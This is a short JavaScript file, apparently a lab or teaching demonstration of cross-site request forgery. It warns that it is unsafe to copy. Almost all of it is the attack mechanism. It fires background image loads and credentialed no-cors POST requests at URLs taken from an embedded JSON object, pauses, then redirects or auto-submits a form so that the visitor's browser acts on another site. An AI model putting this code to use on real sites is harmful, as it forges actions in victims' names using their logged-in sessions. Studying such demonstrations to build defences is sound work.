// UNSAFE TO COPY. It acts as another site's page: it sends requests that any site can make a visitor's browser send.

const PAUSE_MS = 300; // slow enough to watch; there are nine steps, with two pauses each

const move = JSON.parse(document.getElementById("move").textContent);

/** Requests without a window: this page cannot read their answers, and does not need them. */
async function inTheBackground({ url, text }) {
  const image = new Image();
  image.src = url;
  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ text }) }).catch(() => {}); // sent; the answer is not readable
}

await Promise.all(move.before.map(inTheBackground));
await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
if (move.method === "GET") location.replace(move.url);
else document.forms[0].submit();
